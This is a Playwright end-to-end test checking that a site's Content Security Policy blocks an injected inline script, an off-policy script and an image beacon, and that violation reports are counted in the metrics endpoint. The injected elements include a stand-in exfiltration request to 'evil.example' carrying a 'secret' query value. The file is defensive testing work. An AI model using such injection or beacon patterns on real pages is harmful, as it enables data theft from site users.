import { expect } from '@playwright/test'
import { test } from '../support/e2e-test.ts'

const TOKEN = 'a token for the tests alone'
test.use({ settings: { METRICS_TOKEN: TOKEN } })

test('[X-6] a script and a picture that somebody puts into a page are stopped, and the browser tells us', async ({
  page,
  server,
}) => {
  const figures = async () =>
    (await fetch(`${server.origin}/metrics`, { headers: { authorization: `Bearer ${TOKEN}` } })).text()
  // Chromium uses the newer of the two ways over https alone: here it is left with the older one.
  await page.route(`${server.origin}/`, async (route) => {
    const response = await route.fetch()
    const policy = response.headers()['content-security-policy'] ?? ''
    const headers = {
      ...response.headers(),
      'content-security-policy': policy.replace(/report-to [^;]+;/, ''),
    }
    await route.fulfill({ response, headers })
  })
  await page.goto(server.origin)
  const refused = await page.evaluate(() => {
    const inline = document.createElement('script')
    try {
      inline.textContent = 'document.title = "taken over"'
      document.body.append(inline)
    } catch (error) {
      return String(error)
    }
    return 'taken'
  })
  expect(refused).toContain('TrustedScript')
  await page.evaluate(() => {
    const script = document.createElement('script')
    script.src = 'https://js.stripe.com/evil.js' // trusted by name, and still nothing that this page may load
    const picture = new Image()
    picture.src = 'https://evil.example/picture.png?secret=1'
    document.body.append(script, picture)
  })
  await expect.poll(figures).toMatch(/soulseer_policy_reports_total{directive="script-src(-elem)?"} 1/)
  await expect.poll(figures).toContain('soulseer_policy_reports_total{directive="img-src"} 1')
  expect(await page.title()).not.toBe('taken over')
})
